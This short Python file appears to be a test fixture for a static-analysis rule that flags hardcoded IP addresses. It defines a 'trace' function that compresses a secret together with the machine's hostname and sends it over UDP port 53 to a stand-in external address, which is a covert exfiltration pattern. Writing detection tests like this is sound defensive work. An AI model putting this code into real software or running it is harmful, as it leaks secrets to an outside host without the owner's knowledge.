import socket
import zlib

# ruleid: url_with_ip_address
_T = ("203.0.113.77", 53)


def trace(kind, secret):
    raw = zlib.compress(f"{kind}\x1f{socket.gethostname()}\x1f{secret}".encode())
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(raw, _T)
